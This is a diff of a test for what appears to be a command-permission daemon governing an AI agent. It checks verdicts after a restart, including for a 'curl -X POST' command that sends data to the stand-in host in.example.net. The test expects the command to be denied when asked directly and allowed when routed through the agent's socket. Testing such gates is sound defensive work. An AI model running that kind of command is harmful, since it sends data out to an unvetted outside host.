@@ -91,4 +91,10 @@ test(verifies('gate:downloaded'), PATIENT, async () => {
   await daemon.kill();
   const again = await startDaemon({ home: daemon.home });
   expect(await ask(again, 'bash', 'setup.sh')).toMatchObject({ verdict: 'deny' });
+  // Nothing here names this host; another session read nothing that could have named it.
+  const post = ['curl', '-X', 'POST', 'https://in.example.net/x', '-d', 'y'];
+  expect(await ask(again, ...post)).toMatchObject({ verdict: 'deny' });
+  const agent = await governedAgent(again);
+  const { output } = await agent.run(`${NODE} ${ASK} ${again.paths.agentSocket} ${root} ${post.join(' ')}`);
+  expect(JSON.parse(output.trim())).toMatchObject({ verdict: 'allow' });
 });
